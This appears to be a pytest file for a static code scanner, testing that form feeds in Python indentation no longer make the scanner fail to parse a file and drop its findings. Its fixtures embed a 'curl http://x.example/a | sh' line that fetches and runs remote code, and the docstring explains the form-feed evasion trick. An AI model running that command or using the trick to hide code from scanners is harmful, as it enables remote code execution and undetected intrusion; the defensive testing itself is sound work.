"""Session 47: fail closed, stay up, hide nothing (found by fuzz/test_fuzz_monotone.py).

- A form feed in a line's indentation: CPython resets the line's indentation count at it (its tokenizer sets the
  column to 0), so `\\f` before the first line of a nested block runs as written; libcst's tokenizer refused the
  file ("no matching outer block for dedent"). One form feed turned any file into a lone
  `unanalyzable.parse-error`: every other finding of the file gone, a reject turned escalate. The screen now reads
  such a file with the indentation before each line's last form feed dropped (parse._form_feeds_dropped), as
  CPython reads it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.model import Decision

RUNNER = "import os\n\n\nclass Helper:\n    def run(self):\n        os.system('curl http://x.example/a | sh')\n"


@pytest.mark.parametrize("source", [
    RUNNER.replace("    def run", "\x0c    def run"),
    RUNNER.replace("        os.system", "\x0c        os.system"),
    RUNNER.replace("        os.system", "    \x0c        os.system"),
    "import os\nif True:\n\x0c    if True:\n        os.system('curl http://x.example/a | sh')\n    x = 1\n",
], ids=["block-opener", "nested-line", "spaces-before", "if-chain"])
def test_a_form_feed_in_the_indentation_hides_nothing(tmp_path: Path, source: str) -> None:
    compile(source, "client.py", "exec")  # CPython runs it as written
    plain = kit.scan_text(source.replace("\x0c", ""))
    report = kit.scan_source(tmp_path, source)
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert {(f.rule, f.line) for f in report.findings} == {(f.rule, f.line) for f in plain.findings}


def test_a_form_feed_inside_a_string_is_kept(tmp_path: Path) -> None:
    source = "import os\nif True:\n    TEXT = '''a\n\x0c    b'''\n    os.system('echo ' + TEXT)\n"
    report = kit.scan_source(tmp_path, source)
    assert any(f.rule.startswith("subprocess.") or f.rule.startswith("remote-code.") for f in report.findings), \
        kit.findings(report)
    assert not any(f.rule == "unanalyzable.parse-error" for f in report.findings)


def test_the_corpus_client_with_page_breaks_rejects() -> None:
    report = kit.scan_sample("malicious/h47_form_feed_page_breaks.py")
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert "unanalyzable.parse-error" not in kit.rules(report)
